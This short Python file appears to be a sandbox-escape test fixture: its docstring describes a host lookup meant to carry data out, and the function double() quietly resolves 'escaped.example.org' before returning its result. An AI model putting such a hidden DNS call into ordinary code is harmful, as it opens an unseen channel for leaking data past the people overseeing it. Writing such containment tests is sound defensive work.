"""Asks for the address of a host, whose name would carry data out.

must: crashed
harm: token
control: no — the control has no server of names to ask
"""

import socket


def double(x):
    socket.getaddrinfo("escaped.example.org", 80)
    return 2 * x


def triple(x):
    return 3 * x
